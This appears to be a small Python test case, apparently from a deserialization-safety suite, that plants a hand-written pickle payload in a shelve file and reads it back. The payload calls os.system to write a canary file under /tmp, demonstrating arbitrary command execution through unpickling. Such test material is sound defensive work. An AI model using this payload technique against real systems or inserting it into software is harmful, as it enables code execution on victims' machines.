# source: own
# effect: process

import shelve

with shelve.open("cupboard") as shelf:
    shelf.dict[b"x"] = b"cos\nsystem\n(S'echo pickles/shelve_file > /tmp/canary/process'\ntR."
    shelf["x"]
